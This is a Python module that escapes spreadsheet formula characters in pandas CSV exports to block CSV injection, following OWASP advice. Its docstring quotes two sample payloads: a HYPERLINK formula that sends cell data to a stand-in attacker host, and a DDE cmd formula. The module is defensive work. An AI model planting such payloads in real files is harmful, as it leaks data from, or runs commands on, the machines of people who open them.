"""CSV exports that a spreadsheet cannot run: a guard against CSV (formula) injection.

A shop's data holds text that outsiders wrote (customer ids, host names, product titles).
A cell such as `=HYPERLINK("http://evil.example/?d="&A2,"x")` or `=cmd|' /c calc'!A0` is
inert in the warehouse, but Excel, LibreOffice or Google Sheets run it as a formula when
the exported CSV is opened. OWASP's advice (https://owasp.org/www-community/attacks/CSV_Injection):
a cell must not begin with `=`, `+`, `-`, `@`, tab or carriage return; prefix such a cell
with a single quote `'`, and quote it as CSV requires. Here:

- Only text is escaped: string values of text (object, string, category) columns, and
  string column headers (headers can be user data too). Numeric, boolean and datetime
  columns are written as pandas writes them, so -12.5 stays -12.5; a number stored in a
  text column as a number (not a string) is left alone too.
- Rows end in CRLF, as RFC 4180 has them. Python's csv writer quotes a cell holding a line
  end character only if that character is in the line terminator, so with pandas' `\n` a
  cell "a\r=cmd|..." would be written unquoted, and a spreadsheet would start a new row at
  the CR, with the formula first in it. With CRLF every cell holding a CR or LF is quoted.
- The rule looks at the first character only, as OWASP's does. A text "-5" (an id, say)
  is escaped to "'-5": it would be harmless, but telling safe from unsafe text after a
  `-` is what the rule avoids. A cell starting with a space (" =1+1") is left alone:
  Excel opens it as text, not as a formula.
"""

from __future__ import annotations

from collections.abc import Hashable
from typing import Any

import pandas as pd
from pandas.api.types import is_object_dtype, is_string_dtype

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
ESCAPE = "'"
EXCEL_ENCODING = "utf-8-sig"  # the BOM makes Excel read UTF-8 (Chinese) correctly
LINE_END = "\r\n"  # RFC 4180; also makes the writer quote every cell holding a CR or LF


def escape_cell(value: Any) -> Any:
    """`value` with a leading `'` if it is a string that a spreadsheet would take for a
    formula; anything else (numbers, NaN, dates, safe text) unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return ESCAPE + value
    return value


def _escape_label(label: Hashable) -> Hashable:
    if isinstance(label, tuple):  # a MultiIndex header: one string per level
        return tuple(escape_cell(part) for part in label)
    return escape_cell(label)


def is_text_column(column: pd.Series) -> bool:
    """Whether `column` can hold text: object, string or category dtype."""
    dtype = column.dtype
    return (isinstance(dtype, pd.CategoricalDtype) or is_object_dtype(dtype)
            or is_string_dtype(dtype))


def _escape_column(column: pd.Series) -> pd.Series:
    if isinstance(column.dtype, pd.CategoricalDtype):
        column = column.astype(object)
    return column.map(escape_cell, na_action="ignore")


def escaped(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of `frame` with every text cell and header escaped (see the module doc)."""
    out = frame.copy(deep=False)
    out.columns = pd.RangeIndex(frame.shape[1])  # positions: duplicate headers stay apart
    for position in range(frame.shape[1]):
        column = frame.iloc[:, position]
        if is_text_column(column):
            out[position] = _escape_column(column)
    out.columns = frame.columns.map(_escape_label)
    return out


def safe_csv(frame: pd.DataFrame) -> str:
    """`frame` as CSV text (no index, CRLF line ends) with formula-like text cells and
    headers escaped. Write it unchanged (bytes, or text with newline="")."""
    return escaped(frame).to_csv(index=False, lineterminator=LINE_END)


def csv_download(frame: pd.DataFrame) -> bytes:
    """The bytes of a page's CSV download: `safe_csv`, UTF-8 with a BOM for Excel."""
    return safe_csv(frame).encode(EXCEL_ENCODING)
